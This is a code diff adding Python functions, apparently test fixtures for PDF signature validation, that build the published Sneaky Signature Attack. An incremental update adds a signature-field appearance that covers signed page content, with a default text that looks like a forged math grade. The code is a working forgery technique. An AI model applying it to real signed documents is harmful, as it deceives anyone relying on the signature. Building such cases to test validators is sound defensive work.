@@ -892,3 +892,80 @@ def define_dangling_object(pdf: bytes, *, with_dss: bool) -> bytes:
     shown = PdfFileReader(BytesIO(out), strict=False).root["/Pages"]["/Kids"][0]["/Contents"]
     assert isinstance(shown[1], generic.StreamObject), "the page does not draw the new object"
     return out
+
+
+# -- Sneaky Signature Attack (SSA; Rohlmann et al., "Breaking the Specification: PDF
+# Certification", IEEE S&P 2021) -------------------------------------------------------------------
+
+
+def _painting_appearance(writer: IncrementalPdfFileWriter, text: bytes) -> generic.IndirectObject:
+    """An appearance that paints a white box over what lies under its widget and writes ``text``."""
+    font = writer.add_object(
+        generic.DictionaryObject(
+            {
+                _n("/Type"): _n("/Font"),
+                _n("/Subtype"): _n("/Type1"),
+                _n("/BaseFont"): _n("/Helvetica"),
+            }
+        )
+    )
+    return writer.add_object(
+        generic.StreamObject(
+            {
+                _n("/Type"): _n("/XObject"),
+                _n("/Subtype"): _n("/Form"),
+                _n("/BBox"): generic.ArrayObject(
+                    [generic.NumberObject(v) for v in (0, 0, 350, 200)]
+                ),
+                _n("/Resources"): generic.DictionaryObject(
+                    {_n("/Font"): generic.DictionaryObject({_n("/F1"): font})}
+                ),
+            },
+            stream_data=b"1 1 1 rg 0 0 350 200 re f 0 g BT /F1 24 Tf 10 100 Td ("
+            + text
+            + b") Tj ET",
+        )
+    )
+
+
+def _field_ref(writer: IncrementalPdfFileWriter, name: str) -> generic.IndirectObject:
+    fields = writer.root["/AcroForm"]["/Fields"]
+    for index in range(len(fields)):
+        ref = fields.raw_get(index)
+        if ref.get_object().get("/T") == name:
+            return ref  # type: ignore[no-any-return]
+    raise AssertionError(f"no field {name!r}")
+
+
+def sneaky_signature_field(pdf: bytes, text: bytes = b"Diem Toan: 10") -> bytes:
+    """SSA: a later update adds an *empty* signature field — which a signature permits, as a place
+    for the next signer — whose widget's appearance paints a white box over the page and writes
+    ``text``. Nothing the signer saw is rewritten; the page shows something else."""
+    from pyhanko.sign import fields
+
+    writer = IncrementalPdfFileWriter(BytesIO(pdf), strict=False)
+    fields.append_signature_field(
+        writer, fields.SigFieldSpec("ChoKy", on_page=0, box=(50, 600, 400, 800))
+    )
+    ref = _field_ref(writer, "ChoKy")
+    ref.get_object()[_n("/AP")] = generic.DictionaryObject(
+        {_n("/N"): _painting_appearance(writer, text)}
+    )
+    writer.mark_update(ref)
+    out = BytesIO()
+    writer.write(out)
+    return out.getvalue()
+
+
+def redraw_empty_field(pdf: bytes, name: str, text: bytes = b"Diem Toan: 10") -> bytes:
+    """SSA on a place that was blank: an empty signature field given, in a later update, an
+    appearance that paints over the page."""
+    writer = IncrementalPdfFileWriter(BytesIO(pdf), strict=False)
+    ref = _field_ref(writer, name)
+    ref.get_object()[_n("/AP")] = generic.DictionaryObject(
+        {_n("/N"): _painting_appearance(writer, text)}
+    )
+    writer.mark_update(ref)
+    out = BytesIO()
+    writer.write(out)
+    return out.getvalue()
